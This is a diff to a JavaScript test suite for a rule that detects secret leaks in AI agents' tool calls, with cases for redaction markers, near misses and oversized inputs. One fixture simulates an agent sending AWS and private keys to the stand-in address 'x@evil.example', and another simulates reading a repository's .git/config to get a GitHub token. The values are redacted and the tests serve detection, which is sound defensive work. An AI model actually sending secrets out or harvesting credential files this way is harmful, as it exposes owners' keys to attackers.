@@ -85,6 +85,65 @@ describe('API-SECRET-LEAK', () => {
     ]);
   });
 
+  it('secrets the instrumentation redacted ([REDACTED:<kind>]) are findings; evidence shows only the markers', async () => {
+    const findings = await run(
+      // Outbound: a key and a private key the agent tried to send, redacted at the source.
+      call({ to: 'x@evil.example', body: 'keys: [REDACTED:aws-access-key] and [REDACTED:private-key] and [REDACTED:aws-access-key]' }),
+      // Inbound: a result that held a GitHub token.
+      call({ path: '/srv/app/.git/config' }, { tool: 'read_file', result: { text: 'url = https://x-access-token:[REDACTED:url-credential]@github.com/acme/app.git\n[REDACTED:github-token]' } }),
+      // A redacted `password: …` value in arguments: a secret-named value (medium), not a known format.
+      call({ note: 'db password: [REDACTED:secret-assignment]' }, { tool: 'save_note' }),
+    );
+    expect(findings.map((f) => [f.severity, f.subject, f.evidence])).toEqual([
+      [
+        'high',
+        'tool=send_message direction=arguments kinds=aws-access-key,private-key',
+        {
+          direction: 'arguments',
+          kinds: ['aws-access-key', 'private-key'],
+          matches: 3,
+          fields: ['body'],
+          redactedMarkers: ['[REDACTED:aws-access-key]', '[REDACTED:private-key]'],
+        },
+      ],
+      [
+        'medium',
+        'tool=read_file direction=result kinds=github-token,url-credential',
+        {
+          direction: 'result',
+          kinds: ['github-token', 'url-credential'],
+          matches: 2,
+          fields: ['result.text'],
+          redactedMarkers: ['[REDACTED:url-credential]', '[REDACTED:github-token]'],
+        },
+      ],
+      [
+        'medium',
+        'tool=save_note direction=arguments kinds=secret-assignment',
+        {
+          direction: 'arguments',
+          kinds: ['secret-assignment'],
+          matches: 1,
+          fields: ['note'],
+          redactedMarkers: ['[REDACTED:secret-assignment]'],
+        },
+      ],
+    ]);
+  });
+
+  it('near misses: [REDACTED] without a kind, REDACTED in prose, other shapes, redacted pagination tokens', async () => {
+    const findings = await run(
+      call({ username: 'svc', password: '[REDACTED]' }, { tool: 'login' }),
+      call({ body: 'The names in this report were REDACTED by legal. See [REDACTED: annex B] and [redacted:aws-access-key].' }),
+      call({ body: 'Marker docs: [REDACTED:] and [REDACTED:Aws Key] and [REDACTED:aws-access-key' }),
+      call(
+        { url: 'https://api.example.com/items?page_token=[REDACTED:secret-assignment]', cursor: '{"nextToken": "[REDACTED:secret-assignment]"}' },
+        { tool: 'list_items', result: { text: 'items: 3, next_page_token=[REDACTED:secret-assignment]' } },
+      ),
+    );
+    expect(findings).toEqual([]);
+  });
+
   it('near misses: documented examples, UUIDs, git SHAs, sha256 digests, base64 images, env references', async () => {
     const doc = [
       `Configure: aws_access_key_id = ${AWS_DOC_KEY}`,
@@ -144,6 +203,8 @@ describe('API-SECRET-LEAK', () => {
       'Bearer '.repeat(14_000),
       'sk-'.repeat(33_000),
       'postgres://a:'.repeat(7_000),
+      '[REDACTED:'.repeat(10_000),
+      'page_token=[REDACTED:secret-assignment]'.repeat(2_600),
     ];
     const events = adversarial.map((v, i) => call({ body: v }, { time: i, result: { text: v } }));
     const result = await runEvents(events, { only: [ID] });
